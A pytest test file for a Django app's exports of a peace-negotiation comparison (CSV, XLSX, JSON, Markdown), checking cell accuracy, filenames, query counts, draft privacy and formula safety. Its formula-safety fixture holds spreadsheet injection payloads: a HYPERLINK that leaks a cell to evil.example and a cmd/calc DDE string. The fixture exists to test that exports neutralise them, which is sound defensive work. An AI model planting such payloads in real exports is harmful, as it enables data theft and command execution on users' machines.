"""Exports: each format holds exactly the comparison on screen, safely, in a fixed number of queries."""

import csv
import datetime
import io
import json
import re
from html.parser import HTMLParser

import openpyxl
import pytest
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from negotiations.comparison import compute_comparison, parse_filters
from negotiations.exports import comparison as exports
from negotiations.models import (
    Attestation,
    Condition,
    ConditionKind,
    PublishStatus,
    Region,
    Source,
    Statement,
    Topic,
)
from parties.models import Party

FORMATS = ["csv", "xlsx", "json", "md"]
DEFAULT = ""
FILTERED = "party=russia&party=ukraine&topic=territory&as_of=2025-11-28"
# The day before Putin's remarks in Bishkek: nothing had been said yet.
BEFORE_REMARKS = "as_of=2025-11-26"
VIEWS = [DEFAULT, FILTERED, BEFORE_REMARKS]


def fetch(client, fmt, qs=""):
    url = reverse("negotiations:export", args=[fmt])
    return client.get(f"{url}?{qs}" if qs else url)


def comparison_for(qs, user=None):
    return compute_comparison(parse_filters(QueryDict(qs)), user=user, detail=True)


# -- what every format must say, cell by cell ------------------------------------------------------
def expected_cells(comparison):
    """(topic, party) -> what the export of that cell must hold, read from the Comparison."""
    cells = {}
    for row in comparison.rows:
        for cell in row.cells:
            strongest = cell.strongest
            cells[(row.topic.slug, cell.party.slug)] = {
                "status": row.status,
                "kinds": cell.kinds,
                "summaries": [term.summary for term in cell.terms],
                "statement_count": cell.statement_count,
                "source_count": cell.source_count,
                "strongest": strongest.wording if strongest else "",
            }
    return cells


def expected_order(comparison):
    return [row.topic.slug for row in comparison.rows], [p.slug for p in comparison.parties]


def ordered_unique(values):
    return list(dict.fromkeys(values))


# -- parsers, one per format -----------------------------------------------------------------------
def read_csv(body):
    text = body.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the BOM to read the file as UTF-8"
    return list(csv.DictReader(io.StringIO(text[1:])))


def cells_from_records(records):
    cells = {}
    for record in records:
        summaries = record["summaries"]
        cells[(record["topic_slug"], record["party_slug"])] = {
            "status": record["row_status"],
            "kinds": record["kinds"].split("; ") if record["kinds"] else [],
            "summaries": [] if summaries == "no stated term" else summaries.split(" | "),
            "statement_count": int(record["statement_count"]),
            "source_count": int(record["source_count"]),
            "strongest": record["strongest_quote"] or "",
        }
    return cells


def read_xlsx(body):
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    sheets = {}
    for sheet in workbook.worksheets:
        rows = list(sheet.iter_rows(values_only=True))
        header, data = rows[0], rows[1:]
        sheets[sheet.title] = [dict(zip(header, values, strict=True)) for values in data]
    return workbook, sheets


def read_markdown(text):
    """The title line, the table (header and rows as cell texts) and the footnotes."""
    lines = text.splitlines()
    table = [line for line in lines if line.startswith("|")]
    header, rows = split_md_row(table[0]), [split_md_row(line) for line in table[2:]]
    notes = {}
    for line in lines:
        found = re.match(r"\[\^(\d+)\]: (.*)$", line)
        if found:
            notes[found.group(1)] = unescape_md(found.group(2))
    return lines[0], header, rows, notes


def split_md_row(line):
    """A table row's cells, honouring backslash escapes (an escaped pipe is not a border)."""
    cells, current, chars = [], "", iter(line.strip()[1:-1])
    for char in chars:
        if char == "\\":
            current += char + next(chars)
        elif char == "|":
            cells.append(current.strip())
            current = ""
        else:
            current += char
    cells.append(current.strip())
    return cells


def unescape_md(text):
    return re.sub(r"\\(.)", r"\1", text).replace("<br>", "\n")


KIND_LABELS = "|".join(re.escape(label) for label in ConditionKind.labels)
MD_CELL = re.compile(
    r"^(?P<terms>.*) \((?P<statements>\d+) statements?, (?P<sources>\d+) sources?\)"
    r"(?: \[\^(?P<note>\d+)\])?$",
    re.DOTALL,
)


def cells_from_markdown(text, comparison):
    title, header, rows, notes = read_markdown(text)
    slug_by_label = {party.label: party.slug for party in comparison.parties}
    slug_by_name = {row.topic.name: row.topic.slug for row in comparison.rows}
    parties = [slug_by_label[label] for label in header[1:-1]]
    cells, topics = {}, []
    for row in rows:
        topic = slug_by_name[unescape_md(row[0]).replace("↳ ", "")]
        topics.append(topic)
        for party, raw in zip(parties, row[1:-1], strict=True):
            cells[(topic, party)] = md_cell(unescape_md(raw), notes) | {"status": row[-1]}
    return title, topics, parties, cells


def md_cell(text, notes):
    if text == "no stated term":
        return {
            "kinds": [],
            "summaries": [],
            "statement_count": 0,
            "source_count": 0,
            "strongest": "",
        }
    found = MD_CELL.match(text)
    assert found, text
    terms = re.split(rf"; (?=(?:{KIND_LABELS}): )", found.group("terms"))
    note = notes[found.group("note")]
    return {
        "kinds": ordered_unique(term.split(": ", 1)[0] for term in terms),
        "summaries": [term.split(": ", 1)[1] for term in terms],
        "statement_count": int(found.group("statements")),
        "source_count": int(found.group("sources")),
        "strongest": note[note.index("“") + 1 : note.rindex("”")],
    }


class CellAttributes(HTMLParser):
    """The data- attributes of every <td class="cell"> of the comparison page."""

    def __init__(self):
        super().__init__()
        self.cells = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "td" and "cell" in (attrs.get("class") or "").split():
            self.cells.append(attrs)


# -- each format, parsed back, is the comparison ---------------------------------------------------
@pytest.mark.parametrize("qs", VIEWS)
def test_the_csv_export_holds_every_cell_of_the_comparison(client, seeded, qs):
    comparison = comparison_for(qs)
    response = fetch(client, "csv", qs)
    assert response.status_code == 200
    records = read_csv(response.content)

    assert list(records[0]) == exports.COLUMNS
    topics, parties = expected_order(comparison)
    assert ordered_unique(r["topic_slug"] for r in records) == topics
    assert ordered_unique(r["party_slug"] for r in records) == parties
    assert len(records) == len(topics) * len(parties)
    assert {r["as_of"] for r in records} == {comparison.as_of.isoformat()}
    assert cells_from_records(records) == expected_cells(comparison)
    for record in records:
        cell = comparison.cell(record["topic_slug"], record["party_slug"])
        assert record["latest_date"] == (cell.latest.isoformat() if cell.latest else "")
        strongest = cell.strongest
        assert record["strongest_date"] == (strongest.said_on.isoformat() if strongest else "")
        assert record["strongest_speaker"] == (strongest.attributed_to if strongest else "")


@pytest.mark.parametrize("qs", VIEWS)
def test_the_xlsx_export_holds_every_cell_with_numbers_and_dates_as_such(client, seeded, qs):
    comparison = comparison_for(qs)
    response = fetch(client, "xlsx", qs)
    assert response.status_code == 200
    workbook, sheets = read_xlsx(response.content)

    assert workbook.sheetnames == ["Comparison", "Statements", "About"]
    records = sheets["Comparison"]
    assert list(records[0]) == exports.COLUMNS
    topics, parties = expected_order(comparison)
    assert ordered_unique(r["topic_slug"] for r in records) == topics
    assert ordered_unique(r["party_slug"] for r in records) == parties
    assert {r["as_of"].date() for r in records} == {comparison.as_of}
    for record in records:
        assert type(record["statement_count"]) is int
        assert type(record["source_count"]) is int
        cell = comparison.cell(record["topic_slug"], record["party_slug"])
        latest = record["latest_date"]
        assert (latest.date() if latest else None) == cell.latest
        for key in ("kinds", "row_status", "strongest_quote"):
            record[key] = record[key] or ""
    assert cells_from_records(records) == expected_cells(comparison)

    statement_ids = [r["statement_id"] for r in sheets["Statements"]]
    assert statement_ids == [s.id for _topic, _party, s in comparison.statements]
    about = {r["Item"]: r["Value"] for r in sheets["About"]}
    assert about["As of"].date() == comparison.as_of


def test_the_xlsx_export_freezes_and_styles_its_header(client, seeded):
    workbook, _sheets = read_xlsx(fetch(client, "xlsx").content)
    sheet = workbook["Comparison"]
    assert sheet.freeze_panes == "B2"
    assert sheet["A1"].font.bold
    assert sheet["A1"].fill.fill_type == "solid"
    assert workbook["Statements"].freeze_panes == "B2"


@pytest.mark.parametrize("qs", VIEWS)
def test_the_json_export_follows_its_schema_and_holds_the_comparison(client, seeded, qs):
    comparison = comparison_for(qs)
    response = fetch(client, "json", qs)
    assert response.status_code == 200
    data = json.loads(response.content)

    assert data["schema"] == "negotiation-comparison/1"
    assert data["as_of"] == comparison.as_of.isoformat()
    filters = comparison.filters
    assert data["filters"] == {
        "parties": list(filters.parties),
        "topics": list(filters.topics),
        "kinds": list(filters.kinds),
        "version": None,
        "as_of": filters.as_of.isoformat() if filters.as_of else None,
    }
    assert data["rule"] == comparison.rule
    topics, parties = expected_order(comparison)
    assert [p["slug"] for p in data["parties"]] == parties
    assert [r["topic"]["slug"] for r in data["rows"]] == topics

    statements = {s["id"]: s for s in data["statements"]}
    assert list(statements) == [s.id for _topic, _party, s in comparison.statements]
    cells = {}
    for row in data["rows"]:
        assert [c["party"] for c in row["cells"]] == parties
        for cell in row["cells"]:
            expected = comparison.cell(row["topic"]["slug"], cell["party"])
            assert cell["latest"] == (expected.latest.isoformat() if expected.latest else None)
            for term in cell["terms"]:
                assert set(term["statement_ids"]) <= set(statements)
            cells[(row["topic"]["slug"], cell["party"])] = {
                "status": row["status"],
                "kinds": ordered_unique(t["kind_label"] for t in cell["terms"]),
                "summaries": [t["summary"] for t in cell["terms"]],
                "statement_count": cell["statement_count"],
                "source_count": cell["source_count"],
                "strongest": statements[cell["strongest"]]["wording"] if cell["strongest"] else "",
            }
    assert cells == expected_cells(comparison)


@pytest.mark.parametrize("qs", VIEWS)
def test_the_markdown_export_is_the_page_table_with_the_strongest_quotes(client, seeded, qs):
    comparison = comparison_for(qs)
    response = fetch(client, "md", qs)
    assert response.status_code == 200
    title, topics, parties, cells = cells_from_markdown(response.content.decode(), comparison)

    assert title.startswith(f"# Comparison as of {comparison.as_of.isoformat()} (filters: ")
    for slug in comparison.filters.parties + comparison.filters.topics:
        assert slug in title
    assert (topics, parties) == expected_order(comparison)
    assert cells == expected_cells(comparison)


def test_before_putins_remarks_every_cell_is_empty_in_every_export(client, seeded):
    records = read_csv(fetch(client, "csv", BEFORE_REMARKS).content)
    assert records and {r["summaries"] for r in records} == {"no stated term"}
    data = json.loads(fetch(client, "json", BEFORE_REMARKS).content)
    assert data["statements"] == []
    assert all(not cell["terms"] for row in data["rows"] for cell in row["cells"])
    text = fetch(client, "md", BEFORE_REMARKS).content.decode()
    assert "[^" not in text


def test_the_markdown_table_survives_pipes_and_line_breaks_in_summaries(client, seeded):
    condition = Condition.objects.get(party__slug="russia", topic__slug="recognition")
    condition.summary = "Recognition | of Donetsk\nand Crimea"
    condition.save()
    comparison = comparison_for(DEFAULT)

    text = fetch(client, "md").content.decode()
    _title, _topics, _parties, cells = cells_from_markdown(text, comparison)
    assert cells[("recognition", "russia")]["summaries"] == ["Recognition | of Donetsk\nand Crimea"]
    table = [line for line in text.splitlines() if line.startswith("|")]
    assert len({len(split_md_row(line)) for line in table}) == 1


# -- the page and the exports agree ----------------------------------------------------------------
@pytest.mark.parametrize("qs", VIEWS)
def test_the_page_shows_the_same_cells_as_the_exports(client, seeded, qs):
    url = reverse("negotiations:compare")
    page = client.get(f"{url}?{qs}" if qs else url)
    assert page.status_code == 200
    parser = CellAttributes()
    parser.feed(page.content.decode())
    shown = {
        (td["data-topic"], td["data-party"]): (
            td["data-kinds"],
            int(td["data-statements"]),
            int(td["data-sources"]),
        )
        for td in parser.cells
    }
    exported = {
        (r["topic_slug"], r["party_slug"]): (
            r["kinds"],
            int(r["statement_count"]),
            int(r["source_count"]),
        )
        for r in read_csv(fetch(client, "csv", qs).content)
    }
    assert len(parser.cells) == len(exported)
    assert shown == exported


# -- the download itself ---------------------------------------------------------------------------
CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "json": "application/json",
    "md": "text/markdown; charset=utf-8",
}


@pytest.mark.parametrize("fmt", FORMATS)
def test_each_export_is_an_attachment_named_for_its_date(client, seeded, fmt):
    today = timezone.localdate().isoformat()
    cases = [
        (DEFAULT, f"comparison-as-of-{today}.{fmt}"),
        (BEFORE_REMARKS, f"comparison-as-of-2025-11-26.{fmt}"),
        (FILTERED, f"comparison-as-of-2025-11-28-filtered.{fmt}"),
        ("kind=demand", f"comparison-as-of-{today}-filtered.{fmt}"),
    ]
    for qs, name in cases:
        response = fetch(client, fmt, qs)
        assert response["Content-Type"] == CONTENT_TYPES[fmt]
        assert response["Content-Disposition"] == f'attachment; filename="{name}"'


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    ("qs", "message"),
    [
        ("party=nobody", "Unknown party: nobody."),
        ("as_of=2025-13-45", "'2025-13-45' is not a date"),
        ("kind=wish", "Unknown kind of term: wish."),
    ],
)
def test_a_bad_filter_gets_a_plain_400_in_every_format(client, seeded, fmt, qs, message):
    response = fetch(client, fmt, qs)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "Content-Disposition" not in response
    assert message in response.content.decode()


# -- formula safety --------------------------------------------------------------------------------
PAYLOADS = {
    "front-line": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "cessation-of-hostilities": "@SUM(1+1)*cmd|' /C calc'!A0",
    "us-draft": "-1+2",
}


@pytest.fixture
def formulas(seeded):
    """Terms of the European allies whose summaries, and statements, read as formulas."""
    europe = Party.objects.get(slug="european-allies")
    for topic_slug, payload in PAYLOADS.items():
        statement = Statement.objects.create(
            party=europe,
            said_on=datetime.date(2025, 11, 28),
            mode="reported",
            summary=payload,
            status=PublishStatus.PUBLISHED,
        )
        condition = Condition.objects.create(
            party=europe,
            topic=Topic.objects.get(slug=topic_slug),
            kind=ConditionKind.POSITION,
            summary=payload,
            valid_from=datetime.date(2025, 11, 28),
            status=PublishStatus.PUBLISHED,
        )
        condition.statements.add(statement)
    # Alone in its cell, the payload is both the summary and the strongest statement there.
    Condition.objects.filter(party=europe, topic__slug="us-draft", kind="rejection").delete()
    return PAYLOADS


def test_formulas_in_a_csv_export_are_quoted_so_they_cannot_run(client, formulas):
    records = cells_from_csv_by_cell(fetch(client, "csv").content)
    for topic, payload in formulas.items():
        record = records[(topic, "european-allies")]
        assert record["summaries"] == "'" + payload
        assert record["strongest_quote"] == "'" + payload


def cells_from_csv_by_cell(body):
    return {(r["topic_slug"], r["party_slug"]): r for r in read_csv(body)}


def test_formulas_in_an_xlsx_export_are_quoted_text_not_formulas(client, formulas):
    workbook, sheets = read_xlsx(fetch(client, "xlsx").content)
    records = {(r["topic_slug"], r["party_slug"]): r for r in sheets["Comparison"]}
    for topic, payload in formulas.items():
        assert records[(topic, "european-allies")]["summaries"] == "'" + payload
        assert records[(topic, "european-allies")]["strongest_quote"] == "'" + payload
    wordings = {r["wording"] for r in sheets["Statements"]}
    assert {"'" + payload for payload in formulas.values()} <= wordings
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def test_formulas_in_a_json_export_stay_as_they_were_written(client, formulas):
    data = json.loads(fetch(client, "json").content)
    summaries = {
        (row["topic"]["slug"], cell["party"]): [term["summary"] for term in cell["terms"]]
        for row in data["rows"]
        for cell in row["cells"]
    }
    for topic, payload in formulas.items():
        assert summaries[(topic, "european-allies")] == [payload]
    assert {payload for payload in formulas.values()} <= {s["wording"] for s in data["statements"]}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_trigger_is_quoted(text):
    assert exports.spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["Crimea", "1,100 km", "'quoted", " =1 in the middle"])
def test_ordinary_text_is_left_alone(text):
    assert exports.spreadsheet_safe(text) == text


# -- queries and drafts ----------------------------------------------------------------------------
def add_many_terms(count):
    """`count` more published terms across every cell, each on three statements, two sources."""
    parties, topics = list(Party.objects.all()), list(Topic.objects.all())
    regions = list(Region.objects.all())
    sources = [
        Source.objects.create(
            publisher=f"Publisher {n}", title=f"Report {n}", status=PublishStatus.PUBLISHED
        )
        for n in range(2)
    ]
    for n in range(count):
        party, topic = parties[n % len(parties)], topics[n % len(topics)]
        condition = Condition.objects.create(
            party=party,
            topic=topic,
            kind=ConditionKind.values[n % len(ConditionKind.values)],
            summary=f"Extra term {n}",
            valid_from=datetime.date(2025, 11, 27),
            status=PublishStatus.PUBLISHED,
        )
        condition.regions.set(regions[: n % 3])
        for m in range(3):
            statement = Statement.objects.create(
                party=party,
                said_on=datetime.date(2025, 11, 27),
                mode="quote" if m == 0 else "reported",
                summary=f"Extra statement {n}.{m}",
                status=PublishStatus.PUBLISHED,
            )
            for source in sources:
                Attestation.objects.create(
                    statement=statement, source=source, wording=f"Words {n}.{m}"
                )
            condition.statements.add(statement)


def count_queries(client, fmt, qs):
    with CaptureQueriesContext(connection) as queries:
        response = fetch(client, fmt, qs)
    assert response.status_code == 200
    return len(queries)


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_export_takes_as_many_queries_for_many_terms_as_for_the_seed(client, seeded, fmt):
    qs = "version=us-peace-plan:2"
    with_seed = count_queries(client, fmt, qs)
    add_many_terms(60)
    assert "Extra term 59" in json.dumps(json.loads(fetch(client, "json", qs).content))
    assert count_queries(client, fmt, qs) == with_seed


@pytest.fixture
def draft(seeded):
    statement = Statement.objects.create(
        party=Party.objects.get(slug="united-states"),
        said_on=datetime.date(2025, 11, 27),
        mode="reported",
        summary="Secret draft wording",
        status=PublishStatus.PUBLISHED,
    )
    condition = Condition.objects.create(
        party=statement.party,
        topic=Topic.objects.get(slug="recognition"),
        kind=ConditionKind.OFFER,
        summary="Draft term nobody outside the editors may read",
        valid_from=datetime.date(2025, 11, 27),
    )
    condition.statements.add(statement)
    return condition


def export_text(client, fmt):
    body = fetch(client, fmt).content
    if fmt == "xlsx":
        workbook, _sheets = read_xlsx(body)
        return "\n".join(
            str(value)
            for sheet in workbook.worksheets
            for row in sheet.iter_rows(values_only=True)
            for value in row
        )
    return body.decode("utf-8")


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_draft_term_is_in_no_export_for_an_anonymous_reader(client, draft, fmt):
    text = export_text(client, fmt)
    assert draft.summary not in text
    assert "Secret draft wording" not in text


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_editor_exports_the_drafts_they_preview(editor_client, draft, fmt):
    assert draft.summary in export_text(editor_client, fmt)
